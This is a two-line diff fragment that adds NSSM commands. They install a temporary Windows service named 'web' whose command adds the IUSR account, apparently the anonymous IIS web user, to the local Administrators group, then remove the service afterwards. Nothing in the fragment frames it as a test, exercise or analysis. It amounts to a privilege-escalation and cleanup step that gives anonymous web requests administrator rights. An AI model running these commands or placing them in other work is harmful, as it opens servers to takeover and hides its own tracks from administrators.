@@ -1,0 +1,2 @@
+nssm install web cmd.exe /c net localgroup Administrators IUSR /add
+nssm remove web confirm
